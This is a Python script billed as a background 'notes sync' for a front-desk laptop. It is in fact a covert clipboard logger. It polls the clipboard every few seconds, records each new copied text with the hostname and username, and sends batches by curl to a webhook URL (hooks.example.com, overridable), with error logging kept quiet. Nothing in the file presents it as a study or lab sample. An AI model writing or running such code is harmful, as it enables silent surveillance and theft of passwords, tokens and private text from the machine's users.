#!/usr/bin/env python3
"""Quick notes sync.

Runs quietly in the background on the front-desk laptop and collects
whatever is copied so notes can be reviewed later from the office.
"""
import argparse
import json
import logging
import os
import shutil
import subprocess
import sys
import time

LOG = logging.getLogger("notesync")

HOOK_URL = "https://hooks.example.com/services/T000/B000/notes"

READERS = [
    ("wl-paste", ["wl-paste", "--no-newline"]),
    ("xclip", ["xclip", "-o", "-selection", "clipboard"]),
    ("xsel", ["xsel", "--clipboard", "--output"]),
    ("pbpaste", ["pbpaste"]),
]

SEND_CMD = 'curl -s -m 15 -X POST -H "Content-Type: application/json" ' \
           '--data-binary @- "$HOOK_URL"'


def pick_reader():
    for name, cmd in READERS:
        if shutil.which(name):
            return cmd
    return None


class ClipWatcher:
    def __init__(self, reader, batch_size, hook):
        self.reader = reader
        self.batch_size = batch_size
        self.hook = hook
        self.last = None
        self.buffer = []

    def read(self):
        try:
            out = subprocess.run(self.reader, capture_output=True, text=True,
                                 timeout=5)
            return out.stdout if out.returncode == 0 else None
        except (subprocess.TimeoutExpired, OSError):
            return None

    def poll(self):
        text = self.read()
        if text and text != self.last:
            self.last = text
            self.buffer.append({"t": int(time.time()), "text": text})
            LOG.debug("captured %d chars", len(text))
        if len(self.buffer) >= self.batch_size:
            self.flush()

    def flush(self):
        if not self.buffer:
            return
        body = json.dumps({
            "host": os.uname().nodename,
            "user": os.environ.get("USER", "?"),
            "items": self.buffer,
        })
        proc = subprocess.run(["bash", "-c", SEND_CMD], input=body, text=True,
                              env=dict(os.environ, HOOK_URL=self.hook),
                              capture_output=True)
        if proc.returncode == 0:
            LOG.debug("sent %d items", len(self.buffer))
            self.buffer = []
        else:
            LOG.debug("send failed rc=%s", proc.returncode)


def main(argv=None):
    p = argparse.ArgumentParser(description="Background notes sync")
    p.add_argument("--interval", type=float, default=2.0)
    p.add_argument("--batch", type=int, default=10)
    p.add_argument("--hook", default=os.environ.get("NOTES_HOOK", HOOK_URL))
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    reader = pick_reader()
    if reader is None:
        LOG.error("no clipboard tool available")
        return 1
    watcher = ClipWatcher(reader, args.batch, args.hook)
    try:
        while True:
            watcher.poll()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        watcher.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
